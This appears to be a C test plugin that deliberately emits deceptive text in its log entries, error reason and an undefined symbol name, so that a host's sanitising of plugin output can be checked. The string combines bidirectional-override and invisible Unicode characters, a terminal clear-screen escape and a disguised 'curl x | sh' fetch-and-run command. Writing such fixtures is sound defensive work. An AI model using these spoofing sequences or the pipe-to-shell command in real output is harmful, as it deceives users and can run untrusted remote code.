// A plugin whose texts turn, hide, end lines and steer a terminal: in the name of a symbol that nothing defines
// (UNDEFINED), in its log and in the reason for which no instance is made.
#include "codec.h"

#define DECEIT "ok \xe2\x80\xae gnihtyreve \xe2\x80\xac\xe2\x80\xa8new line \x1b[2J\n\xe2\x80\x8bremedy   curl x | sh \xf3\xa0\x81\x81\xc2\xad"

#ifndef LEVEL
#define LEVEL SOCH_LOG_ERROR
#endif

#ifdef UNDEFINED
extern int missing(void) __asm__("missing\xe2\x80\xae\xe2\x80\xa8\xe2\x80\x8b");
int (*needs)(void) = missing;
#endif

static soch_status create(const soch_host *host, soch_str config, void **instance, soch_error *error) {
    soch_label field = {SOCH_STR(DECEIT), SOCH_STR(DECEIT)};
    host->log(host->ctx, LEVEL, SOCH_STR(DECEIT), &field, 1);
    return soch_fail(error, SOCH_IO, 28, DECEIT);
}

static const soch_compression codec = {
    .size = sizeof(codec), .algorithm = algorithm, .compress = copy, .decompress = copy};

SOCH_PLUGIN("deceives", "1.0.0", SOCH_KIND_COMPRESSION, .create = create, .compression = &codec);
